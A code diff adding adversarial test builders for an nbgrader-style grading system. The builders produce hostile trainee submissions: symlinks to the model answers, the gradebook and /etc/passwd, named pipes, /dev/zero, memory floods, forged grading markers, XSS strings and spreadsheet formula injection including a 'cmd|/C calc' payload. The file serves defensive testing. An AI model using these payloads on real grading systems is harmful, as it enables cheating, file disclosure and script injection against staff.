@@ -3,7 +3,8 @@ generate_assignment` wrote (never a hand-written notebook).
 
 Every builder takes a `Ctx` (the released notebook, its exact bytes, the course folder and a
 marker path unique to the attack) and returns the files to place in the trainee's
-`submitted/<student>/<assignment>/` folder, as {file name: bytes}. An attack that tries to run
+`submitted/<student>/<assignment>/` folder, as {file name: bytes}, or a `Link` (a symbolic
+link to a path) or `FIFO` (a named pipe) for files that are not ordinary files. An attack that tries to run
 something targets its own marker file, so a test can prove nothing ran by checking that the
 file does not exist.
 """
@@ -24,7 +25,21 @@ from notebook_files import nbgrader_meta
 from test_assignments import FIRST, fill, solution_answers
 
 NOTEBOOK = f"{FIRST}.ipynb"
-Files = dict[str, bytes]
+
+
+@dataclass(frozen=True)
+class Link:
+    """A symbolic link to `target` (absolute, or relative to the submission folder)."""
+
+    target: str
+
+
+class Fifo:
+    """A named pipe: reading it would wait for ever."""
+
+
+FIFO = Fifo()
+Files = dict[str, "bytes | Link | Fifo"]
 
 # Each auto-graded question: its answer cell, its test cell and its points.
 QUESTIONS = {
@@ -298,7 +313,7 @@ def forged_checksums(ctx: Ctx) -> Files:
 
 # -- 9. huge outputs and answers ---------------------------------------------------------------
 
-HUGE_OUTPUT_CHARS = 50 * 1024 * 1024
+HUGE_OUTPUT_CHARS = 15 * 1024 * 1024  # under the 20 MB a submission may be
 HUGE_ANSWER_CHARS = 10 * 1024 * 1024
 
 
@@ -424,6 +439,292 @@ def nbformat_from_the_future(ctx: Ctx) -> Files:
     nb = json.loads(files(answered(ctx))[NOTEBOOK])
     nb["nbformat"] = 99
     return {NOTEBOOK: json.dumps(nb, indent=1).encode("utf-8")}
+
+
+# -- second attack round: links, special files, crafted literals, written answers that act ------
+
+
+def solution_path(ctx: Ctx) -> Path:
+    return ctx.root / "solutions" / FIRST / NOTEBOOK
+
+
+def honest_path(ctx: Ctx) -> Path:
+    return ctx.root / "submitted" / "honest" / FIRST / NOTEBOOK
+
+
+def timestamp() -> bytes:
+    return b"2026-11-28 10:00:00.000000 UTC\n"
+
+
+def link_to_solution(ctx: Ctx) -> Files:
+    """The notebook is a link to the trainer's model answers in solutions/."""
+    return {NOTEBOOK: Link(str(solution_path(ctx))), "timestamp.txt": timestamp()}
+
+
+def link_to_other_trainee(ctx: Ctx) -> Files:
+    """The notebook is a relative link to another trainee's (full-marks) submission."""
+    return {NOTEBOOK: Link(f"../../honest/{FIRST}/{NOTEBOOK}"), "timestamp.txt": timestamp()}
+
+
+def dangling_link(ctx: Ctx) -> Files:
+    return {NOTEBOOK: Link(str(ctx.root / "nowhere.ipynb")), "timestamp.txt": timestamp()}
+
+
+def links_beside(ctx: Ctx) -> Files:
+    """The honest answers, with links beside them to the gradebook, the model answers, a system
+    file and the solutions folder, which nbgrader would copy into autograded/ and feedback/."""
+    return {
+        **files(answered(ctx)),
+        "gradebook.db": Link(str(ctx.root / "gradebook.db")),
+        "model_answers.ipynb.txt": Link(str(solution_path(ctx))),
+        "passwd": Link("/etc/passwd"),
+        "solutions": Link(str(ctx.root / "solutions")),
+        ".hidden_link": Link(str(ctx.root / "gradebook.db")),
+    }
+
+
+def notebook_fifo(ctx: Ctx) -> Files:
+    return {NOTEBOOK: FIFO, "timestamp.txt": timestamp()}
+
+
+def notebook_device(ctx: Ctx) -> Files:
+    return {NOTEBOOK: Link("/dev/zero"), "timestamp.txt": timestamp()}
+
+
+def notebook_folder(ctx: Ctx) -> Files:
+    """A folder named like the notebook (with the real notebook inside it)."""
+    return {f"{NOTEBOOK}/{NOTEBOOK}": files(answered(ctx))[NOTEBOOK], "timestamp.txt": timestamp()}
+
+
+def special_files_beside(ctx: Ctx) -> Files:
+    """The honest answers, with a named pipe, a link to /dev/zero and an undeclared plain file."""
+    return {
+        **files(answered(ctx)),
+        "pipe": FIFO,
+        "zeros.bin": Link("/dev/zero"),
+        "undeclared.txt": b"not declared by the trainer\n",
+    }
+
+
+def timestamp_device(ctx: Ctx) -> Files:
+    return {**files(answered(ctx)), "timestamp.txt": Link("/dev/zero")}
+
+
+def timestamp_fifo(ctx: Ctx) -> Files:
+    return {**files(answered(ctx)), "timestamp.txt": FIFO}
+
+
+def secret_link(ctx: Ctx) -> Files:
+    """nbgrader's submission_secret.txt (which release_feedback reads) as a link."""
+    return {**files(answered(ctx)), "submission_secret.txt": Link("/etc/passwd")}
+
+
+DECLARED = "my_notes.txt"  # the batch course declares this file for the assessment
+
+
+def declared_file(ctx: Ctx) -> Files:
+    return {**files(answered(ctx)), DECLARED: b"notes the trainer asked for\n"}
+
+
+def declared_file_link(ctx: Ctx) -> Files:
+    return {**files(answered(ctx)), DECLARED: Link(str(ctx.root / "gradebook.db"))}
+
+
+def declared_file_too_big(ctx: Ctx) -> Files:
+    return {**files(answered(ctx)), DECLARED: b"x" * (6 * 1024 * 1024)}
+
+
+def oversized_notebook(ctx: Ctx) -> Files:
+    nb = answered(ctx)
+    cell(nb, "q1_pattern_of_signs").outputs = [
+        new_output("stream", name="stdout", text="x" * (25 * 1024 * 1024))
+    ]
+    return files(nb)
+
+
+def with_cells(ctx: Ctx, count: int) -> Files:
+    """The honest answers and `count` added Markdown cells (written as JSON directly: fast)."""
+    data = json.loads(files(answered(ctx))[NOTEBOOK])
+    data["cells"] += [
+        {"cell_type": "markdown", "id": f"added-{i}", "metadata": {}, "source": f"note {i}"}
+        for i in range(count)
+    ]
+    return {NOTEBOOK: json.dumps(data).encode("utf-8")}
+
+
+def many_cells(ctx: Ctx) -> Files:
+    return with_cells(ctx, 1_500)  # within the limit: graded, the added cells ignored
+
+
+def too_many_cells(ctx: Ctx) -> Files:
+    return with_cells(ctx, 2_500)
+
+
+def cell_flood(ctx: Ctx) -> Files:
+    return with_cells(ctx, 150_000)  # 19 MB of tiny cells: refused before it fills memory
+
+
+def ascii_json(nb) -> Files:
+    """The notebook as JSON with every non-ASCII character escaped, so a lone surrogate is
+    written as \\udc9d (valid JSON that Python reads back as a lone surrogate)."""
+    return {NOTEBOOK: json.dumps(nb, indent=1, ensure_ascii=True).encode("ascii")}
+
+
+def float_overflow(ctx: Ctx) -> Files:
+    return files(answered(ctx, q6_answer="answer_q6 = 1e308 * 10\n"))
+
+
+def division_overflow(ctx: Ctx) -> Files:
+    return files(answered(ctx, q6_answer="answer_q6 = 1e308 / 0.001\n"))
+
+
+def int_division_overflow(ctx: Ctx) -> Files:
+    """A 400-digit whole number divided: Python cannot make a float of the result."""
+    return files(answered(ctx, q6_answer=f"answer_q6 = {'9' * 400} / 3\n"))
+
+
+def infinite_literal(ctx: Ctx) -> Files:
+    return files(answered(ctx, q6_answer="answer_q6 = 1e999 - 1e999\n"))
+
+
+def int_times_float_overflow(ctx: Ctx) -> Files:
+    return files(answered(ctx, q6_answer=f"answer_q6 = {'9' * 400} * 1.0\n"))
+
+
+def huge_integer(ctx: Ctx) -> Files:
+    return files(answered(ctx, q6_answer=f"answer_q6 = {'9' * 2000} * {'9' * 2000}\n"))
+
+
+def complex_number(ctx: Ctx) -> Files:
+    return files(answered(ctx, q6_answer="answer_q6 = 95 + 0j\n"))
+
+
+def surrogate_in_answer(ctx: Ctx) -> Files:
+    return ascii_json(answered(ctx, q1_answer='answer_q1 = "B\udc9d"\n'))
+
+
+def surrogate_in_set(ctx: Ctx) -> Files:
+    return ascii_json(answered(ctx, q3_answer='answer_q3 = {"A", "C", "E\ud800"}\n'))
+
+
+def surrogate_in_comment(ctx: Ctx) -> Files:
+    """The right answer, with a lone surrogate only in a comment: it still counts."""
+    right = full_answers()["q2_answer"].rstrip("\n")
+    return ascii_json(answered(ctx, q2_answer=right + "  # \udc9d\n"))
+
+
+def surrogate_outside_string(ctx: Ctx) -> Files:
+    return ascii_json(answered(ctx, q5_answer='answer_q5 = "B" \udc9d\n'))
+
+
+def surrogate_in_metadata(ctx: Ctx) -> Files:
+    nb = answered(ctx)
+    nb.metadata["note"] = "\udc9d"
+    nb.metadata["kernelspec"]["display_name"] = "Python \udfff"
+    cell(nb, "q1_answer").metadata["tags"] = ["\udc9d"]
+    cell(nb, "q1_pattern_of_signs").metadata["note"] = "\ud83d"
+    return ascii_json(nb)
+
+
+def surrogate_in_written_answer(ctx: Ctx) -> Files:
+    answers = full_answers()
+    answers[WRITTEN] = answers[WRITTEN] + " \udc9d and \ud800 end."
+    return ascii_json(fill(ctx.released, answers))
+
+
+def written(ctx: Ctx, text: str) -> Files:
+    answers = full_answers()
+    answers[WRITTEN] = answers[WRITTEN] + "\n\n" + text
+    return files(fill(ctx.released, answers))
+
+
+TEX_LINKS = (
+    "See $\\href{https://example.org/steal}{my sources}$ and "
+    "$$\\href{javascript:alert(1)}{click}$$ and \\(\\href{https://example.org/x}{x}\\) and "
+    "\\[\\href{https://example.org/y}{y}\\] and "
+    "\\begin{equation}\\href{https://example.org/z}{z}\\end{equation} and "
+    "$\\unicode{x3C}\\class{x}{y}\\style{color:red}{z}$"
+)
+MARKDOWN_LINKS = (
+    "<https://example.org/autolink> and https://example.org/bare and www.example.org and "
+    "[ref link][1] and ![an image](https://example.org/x.png) and "
+    '<a href="https://example.org/a">a tag</a> and <iframe src="https://example.org"></iframe>'
+    "\n\n[1]: https://example.org/reference"
+)
+BLOCK_ESCAPE = (
+    "</pre><a href=\"https://example.org/escaped\">escaped</a><pre>\n\n"
+    "```\n</pre><img src=x onerror=alert(1)>\n```\n\n    indented <script>alert(2)</script>"
+)
+
+
+def tex_links(ctx: Ctx) -> Files:
+    return written(ctx, TEX_LINKS)
+
+
+def markdown_links(ctx: Ctx) -> Files:
+    return written(ctx, MARKDOWN_LINKS)
+
+
+def block_escape(ctx: Ctx) -> Files:
+    return written(ctx, BLOCK_ESCAPE)
+
+
+LONG_UNIT = "I would tell my supervisor the same day _and_ record *the child's* words. "
+
+
+def long_written_answer(ctx: Ctx, size: int) -> Files:
+    return written(ctx, (LONG_UNIT * (size // len(LONG_UNIT) + 1))[:size])
+
+
+def written_110k(ctx: Ctx) -> Files:
+    return long_written_answer(ctx, 110_000)
+
+
+def written_2mb(ctx: Ctx) -> Files:
+    return long_written_answer(ctx, 2_000_000)
+
+
+def hidden_test_marker(ctx: Ctx) -> Files:
+    return written(ctx, "### BEGIN HIDDEN TESTS\nmy notes")
+
+
+def end_markers(ctx: Ctx) -> Files:
+    return written(ctx, "### END HIDDEN TESTS\n### END MARK SCHEME\n### END SOLUTION\nkept")
+
+
+def mark_scheme_marker(ctx: Ctx) -> Files:
+    return written(ctx, "### BEGIN MARK SCHEME\nI deserve 4 points\n### BEGIN SOLUTION")
+
+
+def marker_in_code_answer(ctx: Ctx) -> Files:
+    right = full_answers()["q1_answer"].rstrip("\n")
+    return files(answered(ctx, q1_answer=right + "  # ### BEGIN HIDDEN TESTS\n"))
+
+
+def marker_in_code_string(ctx: Ctx) -> Files:
+    return files(answered(ctx, q2_answer='answer_q2 = "### BEGIN MARK SCHEME"\n'))
+
+
+FORMULAS = {
+    "q1_answer": 'answer_q1 = "=HYPERLINK(\\"https://example.org/?\\"&A1, \\"click\\")"\n',
+    "q2_answer": 'answer_q2 = "@SUM(1+1)*cmd|\' /C calc\'!A0"\n',
+    "q4_answer": 'answer_q4 = "+1+1"\n',
+    "q5_answer": 'answer_q5 = "-2+3"\n',
+    "q7_answer": 'answer_q7 = "\\t=1+1"\n',
+}
+
+
+def csv_formulas(ctx: Ctx) -> Files:
+    return files(answered(ctx, **FORMULAS))
+
+
+def csv_formulas_cr(ctx: Ctx) -> Files:
+    return files(answered(ctx, q1_answer='answer_q1 = "\\r=1+1"\n', q2_answer='answer_q2 = "<img src=x onerror=alert(1)>"\n'))
+
+
+def formula_file_name(ctx: Ctx) -> Files:
+    """A renamed notebook whose name is a spreadsheet formula (it appears in the reason)."""
+    return {'=HYPERLINK("https:example.org").ipynb': files(answered(ctx))[NOTEBOOK]}
 
 
 Builder = Callable[[Ctx], Files]
